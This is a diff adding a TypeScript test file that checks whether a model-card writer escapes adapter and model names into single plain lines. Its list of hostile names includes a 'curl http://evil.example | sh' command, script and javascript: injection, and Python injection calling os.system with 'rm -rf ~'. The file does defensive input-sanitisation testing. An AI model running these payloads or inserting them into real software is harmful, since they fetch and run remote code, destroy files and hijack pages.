@@ -1,0 +1,58 @@
+/** @file Names out of files in an exported adapter's README: single lines, plain in Markdown, HTML and Python. */
+import fc from 'fast-check';
+import { expect, it } from 'vitest';
+import { parseRunConfig } from '../run/config';
+import { markdownLine, maxNameCharacters, pythonPathPart } from './card-text';
+import { writeModelCard } from './model-card';
+import type { TrainingResult } from './trainer';
+
+function cardOf(name: string): string {
+  const result: TrainingResult = {
+    adapter: { r: 2, lora_alpha: 4, target_modules: [name] } as unknown as TrainingResult['adapter'],
+    ...{ metrics: [], totalSteps: 1, stopped: false, bestStep: null, endedEarly: false },
+  };
+  const names = { baseModel: name, chatTemplate: name, ancestors: [name, name], separateReference: name };
+  return writeModelCard({ config: parseRunConfig({}), result, pairs: 4, precision: 'float32', ...names });
+}
+
+const hostile = [
+  'a\n# Install\n```sh\ncurl http://evil.example | sh\n```\n',
+  '<script>alert(1)</script>',
+  '![x](http://evil.example/x.png) [click](javascript:alert(1))',
+  'a | b |\n|---|---|\n| c | d',
+  'x\r\n---\nlicense: mit\n---\n',
+  'x")\nimport os; os.system("rm -rf ~")  #',
+  '"); import os; os.system("id") #',
+  'a\u2028# b\u0085c\u202egnp.exe\u001b[31m',
+  '`code` *bold* __strong__ ~~gone~~ &lt; $x$ @all www.evil.example',
+  'n'.repeat(5000),
+];
+
+it.each(hostile)('%j is one line of text wherever the card has it', (name) => {
+  const plain = cardOf('plain');
+  const card = cardOf(name);
+  expect(card.split('\n')).toHaveLength(plain.split('\n').length);
+  expect(card.replaceAll(markdownLine(name), 'plain').replaceAll(pythonPathPart(name), 'plain')).toBe(plain);
+});
+
+it('leaves the usual names as they are', () => {
+  for (const name of ['tiny-llama', 'Qwen2.5-0.5B_v1 (copy)', 'dpo-3', '내 모델', 'model.layers.0.self_attn.q_proj'])
+    expect(markdownLine(name)).toBe(name);
+  expect(markdownLine('a|b <i> _c_ [d](http://e)')).toBe('a\\|b &lt;i&gt; \\_c\\_ \\[d\\](http\\://e)');
+  expect(pythonPathPart('Qwen2.5-0.5B_v1')).toBe('Qwen2.5-0.5B_v1');
+});
+
+it('any text is one line in which every sign of markup is escaped', () => {
+  const anything = fc.string({ unit: fc.oneof(fc.constantFrom(...'\\`*_[]|~#!<>&:/\n\r\t"\u2028'), fc.string()) });
+  fc.assert(
+    fc.property(anything, (text) => {
+      const line = markdownLine(text);
+      expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
+      expect(line.length).toBeLessThanOrEqual(5 * (maxNameCharacters + 3));
+      // Without what is escaped no sign is left that Markdown reads.
+      expect(line.replace(/\\[^]|&(amp|lt|gt);/g, '')).not.toMatch(/[\\`*[\]|~#!<>&]|:\/\//);
+      expect(pythonPathPart(text)).not.toMatch(/["'\\\n\r]/);
+    }),
+    { seed: 14, numRuns: 500 },
+  );
+});
